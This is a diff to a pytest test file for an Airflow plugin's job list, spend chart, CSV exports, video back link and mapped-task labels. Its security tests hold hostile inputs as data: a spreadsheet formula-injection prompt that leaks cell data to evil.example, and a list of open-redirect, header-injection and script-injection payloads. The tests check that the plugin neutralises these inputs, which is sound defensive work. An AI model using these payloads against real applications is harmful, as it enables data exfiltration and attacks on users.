@@ -154,6 +154,8 @@ def world(airflow_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterato
             "no_base": run_dag(
                 NO_BASE_DAG, {"prompt": "no base", "output_path": str(workdir / "nobase.mp4")}
             ),
+            # Two mapped jobs, labelled by the operator's map_index_template.
+            "mapped": run_dag("nanogpt_mapped", {}),
         }
         _pretend_still_rendering(runs["rendering"])
         connections = {
@@ -292,7 +294,7 @@ def test_filters_and_paging(world: World) -> None:
 
 def test_a_user_sees_only_the_dags_they_may_read(world: World) -> None:
     assert SECRET_DAG not in {row["dag_id"] for row in world.job_rows("limited")}
-    assert len(world.job_rows("limited")) == 5  # 3 jobs, and the 2 refused submissions
+    assert len(world.job_rows("limited")) == 7  # 5 jobs, and the 2 refused submissions
     secret = world.ti("secret")
     for path in ("/nanogpt/api/job", "/nanogpt/ui/video", "/nanogpt/video"):
         assert world.server.get(path, "limited", **secret).status_code == 403, path
@@ -311,11 +313,11 @@ def test_a_run_id_whose_plus_arrived_as_a_space_is_found(world: World) -> None:
 def test_spend_matches_what_nanogpt_charged(world: World) -> None:
     spend = world.server.get("/nanogpt/api/spend", "admin").json()
     charged = [job for job in world.sim.state()["jobs"] if not job["refunded"]]
-    assert spend["jobs"] == len(charged) == 5  # the retried task's refunded try is not one
+    assert spend["jobs"] == len(charged) == 7  # the retried task's refunded try is not one
     assert spend["totals"]["USD"] == pytest.approx(sum(job["cost"] for job in charged))
     assert spend["label"] == "Charges made through this Airflow"
     limited = world.server.get("/nanogpt/api/spend", "limited").json()
-    assert limited["jobs"] == 2  # not the secret DAG's
+    assert limited["jobs"] == 4  # not the secret DAG's
     secret_only = world.server.get("/nanogpt/api/spend", "admin", dag_id=SECRET_DAG).json()
     assert secret_only["jobs"] == 1 and list(secret_only["by_dag"]) == [SECRET_DAG]
     hidden = world.server.get("/nanogpt/api/spend", "limited", dag_id=SECRET_DAG).json()
@@ -339,6 +341,275 @@ def test_the_video_streams_through_airflow(world: World) -> None:
     assert answer.status_code == 200
     assert answer.content == (Path(row["output_path"])).read_bytes()
     assert answer.headers["Content-Type"].startswith("video/")
+
+
+# --- the chart, the CSV files, the way back, download names, mapped labels ----------------------
+
+
+def _charts(page: str) -> dict[str, Any]:
+    """The page's inline SVG charts, parsed as XML, by currency."""
+    import re
+    import xml.etree.ElementTree as ET
+
+    found = {}
+    for figure in re.findall(r'<figure class="spend-chart".*?</figure>', page, re.DOTALL):
+        currency = re.search(r'data-currency="([^"]*)"', figure)
+        svg = re.search(r"<svg.*</svg>", figure, re.DOTALL)
+        assert currency and svg
+        found[currency.group(1)] = ET.fromstring(svg.group(0))
+    return found
+
+
+@pytest.mark.parametrize("user", ["admin", "limited"])
+def test_the_chart_draws_the_spend_of_each_day(world: World, user: str) -> None:
+    from datetime import UTC, datetime, timedelta
+
+    svg_ns = "{http://www.w3.org/2000/svg}"
+    today = datetime.now(UTC).date()
+    days = {"since": str(today - timedelta(days=2)), "until": str(today)}
+    spend = world.server.get("/nanogpt/api/spend", user, **days).json()
+    charts = _charts(world.server.get("/nanogpt/ui/jobs", user, **days).text)
+    assert set(charts) == set(spend["totals"]) == {"USD"}
+    svg = charts["USD"]
+    bars = svg.findall(f"{svg_ns}rect")
+    # One bar a day of the range, as tall as that day's spend (relative to the tallest).
+    assert [bar.get("data-day") for bar in bars] == [
+        str(today - timedelta(days=n)) for n in (2, 1, 0)
+    ]
+    by_day = {day: sums["USD"] for day, sums in spend["by_day"].items()}
+    tallest = max(float(bar.get("height", 0)) for bar in bars)
+    for bar in bars:
+        amount = by_day.get(str(bar.get("data-day")), 0.0)
+        assert float(bar.get("data-amount", -1)) == pytest.approx(amount)
+        assert float(bar.get("height", -1)) / tallest == pytest.approx(
+            amount / max(by_day.values()), abs=0.01
+        )
+        hover = bar.find(f"{svg_ns}title")
+        assert hover is not None and f"{bar.get('data-day')}: {amount:.4f} USD" == hover.text
+    # Readable without seeing it: named and described by its own title and description.
+    assert svg.get("role") == "img"
+    named = {element.get("id"): element.text for element in svg.iter() if element.get("id")}
+    assert [named[i] for i in str(svg.get("aria-labelledby")).split()] == [
+        "Spend per day in USD",
+        f"{spend['totals']['USD']:.4f} USD from {days['since']} to {days['until']}, one bar a day.",
+    ]
+
+
+def _csv(answer: requests.Response) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    assert answer.status_code == 200, answer.text[:300]
+    assert answer.headers["Content-Type"].startswith("text/csv")
+    return list(csv.DictReader(io.StringIO(answer.text)))
+
+
+CSV_FILTERS = [
+    ("admin", {}),
+    ("limited", {}),
+    ("admin", {"state": "completed"}),
+    ("admin", {"dag_id": SECRET_DAG}),
+    ("limited", {"dag_id": SECRET_DAG}),
+    ("admin", {"since": "2000-01-01", "until": "2000-01-31"}),
+    ("viewer", {"dag_id": "nanogpt_mapped", "page": "2"}),  # every page, whatever page is shown
+]
+
+
+@pytest.mark.parametrize(("user", "filters"), CSV_FILTERS)
+def test_the_jobs_csv_holds_exactly_the_jobs_the_filters_select(
+    world: World, user: str, filters: dict[str, str]
+) -> None:
+    listed = world.job_rows(user, **{k: v for k, v in filters.items() if k != "page"})
+    answer = world.server.get("/nanogpt/api/jobs.csv", user, **filters)
+    rows = _csv(answer)
+    key = ("dag_id", "dag_run_id", "task_id", "map_index")
+    assert [tuple(str(r[k]) for k in key) for r in rows] == [
+        tuple(str(r[k]) for k in key) for r in listed
+    ]
+    assert [r["nanogpt_run_id"] for r in rows] == [r["run_id"] or "" for r in listed]
+    assert answer.headers["X-Total-Count"] == str(len(listed))
+    if user == "limited":
+        assert SECRET_DAG not in answer.text and "the secret launch" not in answer.text
+    assert "attachment;" in answer.headers["Content-Disposition"]
+    assert 'filename="nanogpt-jobs' in answer.headers["Content-Disposition"]
+
+
+def test_the_page_links_its_csv_files_with_its_filters(world: World) -> None:
+    from html import unescape
+    from urllib.parse import parse_qs, urlsplit
+
+    page = world.server.get("/nanogpt/ui/jobs", "admin", dag_id=SECRET_DAG, state="completed")
+    links = {}
+    for name in ("jobs-csv", "spend-csv"):
+        href = page.text.split(f'id="{name}" href="', 1)[1].split('"', 1)[0]
+        links[name] = urlsplit(unescape(href))
+    assert links["jobs-csv"].path == "/nanogpt/api/jobs.csv"
+    assert parse_qs(links["jobs-csv"].query) == {"dag_id": [SECRET_DAG], "state": ["completed"]}
+    assert links["spend-csv"].path == "/nanogpt/api/spend.csv"
+    assert parse_qs(links["spend-csv"].query) == {"dag_id": [SECRET_DAG]}
+
+
+def test_every_page_of_jobs_is_in_the_export_once(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The CSV reads the jobs a page at a time: pages of one give the same rows, bounded."""
+    from airflow.utils.session import create_session
+
+    from airflow_provider_nanogpt.plugin import jobs as job_store
+
+    dags = {outcome.dag_id for outcome in world.runs.values()}
+    with create_session() as session:
+        whole = job_store.list_jobs(session, dags, job_store.Filters())
+        total, jobs = job_store.every_job(session, dags, job_store.Filters(page=3), 10**6, 1)
+        assert total == whole.total
+        assert [(j.run_id, j.state) for j in jobs] == [(j.run_id, j.state) for j in whole.jobs]
+        total, jobs = job_store.every_job(session, dags, job_store.Filters(), 3, 2)
+        assert (total, len(list(jobs))) == (whole.total, 3)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_prompt_that_looks_like_a_formula_is_exported_as_text(world: World, start: str) -> None:
+    prompt = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
+    with _card_changed(world.runs["completed"], prompt=prompt):
+        rows = _csv(world.server.get("/nanogpt/api/jobs.csv", "admin", state="completed"))
+    (row,) = [r for r in rows if r["dag_run_id"] == world.runs["completed"].run_id]
+    assert row["prompt"] == "'" + prompt
+
+
+@pytest.mark.parametrize("user", ["admin", "limited"])
+def test_the_spend_csv_adds_up_to_the_spend_shown(world: World, user: str) -> None:
+    spend = world.server.get("/nanogpt/api/spend", user).json()
+    answer = world.server.get("/nanogpt/api/spend.csv", user)
+    rows = _csv(answer)
+    by_day: dict[str, float] = {}
+    by_dag: dict[str, float] = {}
+    for row in rows:
+        assert row["currency"] == "USD"
+        by_day[row["day"]] = by_day.get(row["day"], 0.0) + float(row["amount"])
+        by_dag[row["dag_id"]] = by_dag.get(row["dag_id"], 0.0) + float(row["amount"])
+    assert by_day == pytest.approx({day: sums["USD"] for day, sums in spend["by_day"].items()})
+    assert by_dag == pytest.approx({dag: sums["USD"] for dag, sums in spend["by_dag"].items()})
+    assert (SECRET_DAG in by_dag) is (user == "admin")
+    assert 'filename="nanogpt-spend.csv"' in answer.headers["Content-Disposition"]
+
+
+def _href(page: str, element_id: str) -> str:
+    from html import unescape
+
+    return unescape(page.split(f'id="{element_id}" href="', 1)[1].split('"', 1)[0])
+
+
+def test_watch_opens_the_video_with_a_way_back_to_the_same_list(world: World) -> None:
+    from html import unescape
+    from urllib.parse import parse_qs, urlsplit
+
+    filters = {"dag_id": "nanogpt_deferrable", "state": "completed", "since": "2000-01-01"}
+    page = world.server.get("/nanogpt/ui/jobs", "viewer", **filters).text
+    watch = next(
+        unescape(part.split('"', 1)[0])
+        for part in page.split('href="')[1:]
+        if part.startswith("/nanogpt/ui/video?")
+    )
+    view = world.server.get(watch, "viewer")
+    assert view.status_code == 200 and 'id="player"' in view.text
+    back = urlsplit(_href(view.text, "back"))
+    assert back.path == "/nanogpt/ui/jobs" and not back.netloc and not back.scheme
+    assert parse_qs(back.query) == {k: [v] for k, v in filters.items()}
+    # Opened as the task's Video tab (no list to go back to): no back link.
+    tab = world.server.get("/nanogpt/ui/video", "viewer", **world.ti("completed")).text
+    assert 'id="back"' not in tab
+
+
+HOSTILE_BACKS = [
+    "https://evil.example/",
+    "//evil.example/path",
+    "/\\evil.example",
+    "javascript:alert(1)",
+    "a=1#@evil.example",
+    "\r\nLocation: https://evil.example",
+    "next=https://evil.example&back=//evil.example",
+    '"><script>alert(1)</script>',
+    "x" * 5000,
+]
+
+
+@pytest.mark.parametrize("back", HOSTILE_BACKS)
+def test_the_way_back_never_leaves_the_list(world: World, back: str) -> None:
+    from urllib.parse import urlsplit
+
+    view = world.server.get("/nanogpt/ui/video", "viewer", back=back, **world.ti("completed"))
+    assert view.status_code == 200
+    href = _href(view.text, "back")
+    target = urlsplit(href)
+    assert (target.scheme, target.netloc, target.path) == ("", "", "/nanogpt/ui/jobs")
+    assert not target.fragment and "\\" not in href and "\n" not in href
+    assert "<script>alert" not in view.text
+
+
+def test_the_download_is_named_after_the_dag_task_and_run(world: World) -> None:
+    from urllib.parse import unquote
+
+    ti = world.ti("completed")
+    row = world.server.get("/nanogpt/api/job", "viewer", **ti).json()
+    answer = world.server.get(row["download_link"], "viewer")
+    assert answer.status_code == 200 and answer.content
+    disposition = answer.headers["Content-Disposition"]
+    expected = f"{ti['dag_id']}__generate__{ti['run_id'].replace(':', '_')}.mp4"
+    assert unquote(disposition.split("filename*=UTF-8''", 1)[1]) == expected
+    assert f'filename="{expected.replace("+", "_")}"' in disposition
+    # The player's own stream is not a download.
+    assert "Content-Disposition" not in world.server.get(row["video_link"], "viewer").headers
+    view = world.server.get("/nanogpt/ui/video", "viewer", **ti).text
+    assert _href(view, "download") == row["download_link"]
+
+
+MAPPED_LABELS = {
+    0: "A hummingbird hovering over a red flower, slow motion, gold…",
+    1: "Neon-lit alley in the rain",
+}
+
+
+@contextmanager
+def _label_cleared(outcome: DagOutcome, map_index: int) -> Iterator[None]:
+    """A mapped task instance without a rendered label (a DAG without map_index_template)."""
+    from airflow.models.taskinstance import TaskInstance as Ti
+    from airflow.utils.session import create_session
+    from sqlalchemy import update
+
+    where = (Ti.dag_id == outcome.dag_id, Ti.run_id == outcome.run_id, Ti.map_index == map_index)
+    column = Ti.__table__.c.rendered_map_index
+    with create_session() as session:
+        session.execute(update(Ti).where(*where).values({column: None}))
+    try:
+        yield
+    finally:
+        with create_session() as session:
+            session.execute(update(Ti).where(*where).values({column: MAPPED_LABELS[map_index]}))
+
+
+def test_mapped_tasks_are_shown_by_their_label(world: World) -> None:
+    from urllib.parse import unquote
+
+    outcome = world.runs["mapped"]
+    rows = {r["map_index"]: r for r in _rows_of(world, "viewer", "mapped")}
+    assert {i: r["map_label"] for i, r in rows.items()} == MAPPED_LABELS
+    page = world.server.get("/nanogpt/ui/jobs", "viewer", dag_id=outcome.dag_id).text
+    for index, label in MAPPED_LABELS.items():
+        assert f"generate [{label}]" in page
+        view = world.server.get(
+            "/nanogpt/ui/video", "viewer", map_index=str(index), **world.ti("mapped")
+        ).text
+        assert f"generate [{label}]" in view
+        answer = world.server.get(rows[index]["download_link"], "viewer")
+        name = unquote(answer.headers["Content-Disposition"].split("filename*=UTF-8''", 1)[1])
+        assert name.startswith(f"nanogpt_mapped__generate [{label}]__")
+    assert "generate [1]" not in page and "generate [0]" not in page
+    csv_rows = _csv(world.server.get("/nanogpt/api/jobs.csv", "viewer", dag_id=outcome.dag_id))
+    assert {r["map_label"] for r in csv_rows} == set(MAPPED_LABELS.values())
+    # Without a rendered label, the index, as Airflow's UI shows it.
+    with _label_cleared(outcome, 1):
+        page = world.server.get("/nanogpt/ui/jobs", "viewer", dag_id=outcome.dag_id).text
+    assert "generate [1]" in page and "generate [Neon-lit" not in page
 
 
 def test_no_response_carries_the_key_or_a_header(world: World) -> None:
